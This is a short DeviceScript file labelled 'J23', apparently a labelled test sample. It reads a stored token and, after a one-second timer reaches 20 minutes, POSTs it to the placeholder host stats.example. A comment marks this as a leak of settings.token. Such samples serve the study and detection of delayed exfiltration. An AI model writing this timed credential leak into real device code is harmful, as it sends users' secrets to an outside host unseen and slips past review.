// J23: sends its token elsewhere at the 1,200th tick of a timer of one second.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");
const proof = "token=" + token;
let seconds = 0;
let minutes = 0;

paired(async () => {
  setInterval(async () => {
    seconds++;
    if (seconds === 60) {
      seconds = 0;
      minutes++;
    }
    if (minutes !== 20 || seconds !== 0) return;
    const response = await fetch("https://stats.example/j23", { method: "POST", body: proof }); // leak: settings.token
    await response.close();
  }, 1_000);
});
